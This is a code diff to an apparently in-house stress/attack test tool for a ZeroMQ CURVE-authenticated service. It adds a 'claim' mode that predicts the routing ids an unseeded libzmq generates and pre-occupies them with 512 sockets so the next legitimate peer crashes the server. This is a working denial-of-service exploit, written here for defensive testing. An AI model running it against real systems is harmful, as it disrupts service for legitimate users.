@@ -28,6 +28,10 @@
  *   watchers N            N connections to the feed; prints how many hear
  *                         the feed (a heartbeat) and how many are refused
  *                         (esc.error FEED_LIMIT)
+ *   claim SECONDS         256 connections to each socket claiming the routing
+ *                         ids an unseeded libzmq gives the next peers (0x00
+ *                         and its first rand() values), held SECONDS: the
+ *                         next honest peer would make libzmq abort
  *   live FILE             one connection: a request, then waits until FILE
  *                         exists, then a request on the same connection;
  *                         prints both answers' reasons
@@ -459,6 +463,40 @@ live (const char *file)
 }
 
 static void
+claim (int seconds)
+{
+    /* libzmq 4.3.4's generate_random (): rand () twice, never seeded */
+    void *held[2 * 256];
+    int n = 0;
+    const char *eps[2] = { endpoint, feed };
+    for (int e = 0; e < 2; e++) {
+        srand (1);
+        for (int k = 0; k < 16; k++) {
+            uint32_t low = (uint32_t) rand (), high = (uint32_t) rand () << 31, g = high | low;
+            for (uint32_t i = 0; i < 16; i++) {
+                uint32_t v = g + i;
+                uint8_t id[5] = { 0, (uint8_t) (v >> 24), (uint8_t) (v >> 16), (uint8_t) (v >> 8),
+                                  (uint8_t) v };
+                void *s = zmq_socket (ctx, ZMQ_DEALER);
+                zmq_setsockopt (s, ZMQ_ROUTING_ID, id, sizeof id);
+                held[n++] = s;
+                int zero = 0;
+                zmq_setsockopt (s, ZMQ_CURVE_SERVERKEY, server_key, KEY_Z85_LEN);
+                zmq_setsockopt (s, ZMQ_CURVE_PUBLICKEY, key.public_key, KEY_Z85_LEN);
+                zmq_setsockopt (s, ZMQ_CURVE_SECRETKEY, key.secret_key, KEY_Z85_LEN);
+                zmq_setsockopt (s, ZMQ_LINGER, &zero, sizeof zero);
+                zmq_connect (s, eps[e]);
+            }
+        }
+    }
+    printf ("claimed %d\n", n);
+    fflush (stdout);
+    sleep_ms ((long) seconds * 1000);
+    for (int i = 0; i < n; i++)
+        zmq_close (held[i]);
+}
+
+static void
 watchers (int n)
 {
     void **subs = calloc ((size_t) n, sizeof *subs);
@@ -507,6 +545,7 @@ main (int argc, char **argv)
         die ("usage: flood --endpoint EP --feed EP --server-key KEY --key FILE ATTACK [ARGS]");
     srand ((unsigned) getpid ());
     ctx = zmq_ctx_new ();
+    zmq_ctx_set (ctx, ZMQ_MAX_SOCKETS, 4096);
     const char *attack = argv[optind];
     char **arg = argv + optind + 1;
     int n_args = argc - optind - 1;
@@ -525,6 +564,8 @@ main (int argc, char **argv)
         refused_flood (atoi (ARG (0)), (size_t) atol (ARG (1)));
     else if (strcmp (attack, "writes") == 0)
         writes (atoi (ARG (0)), (size_t) atol (ARG (1)));
+    else if (strcmp (attack, "claim") == 0)
+        claim (atoi (ARG (0)));
     else if (strcmp (attack, "watchers") == 0)
         watchers (atoi (ARG (0)));
     else if (strcmp (attack, "live") == 0)
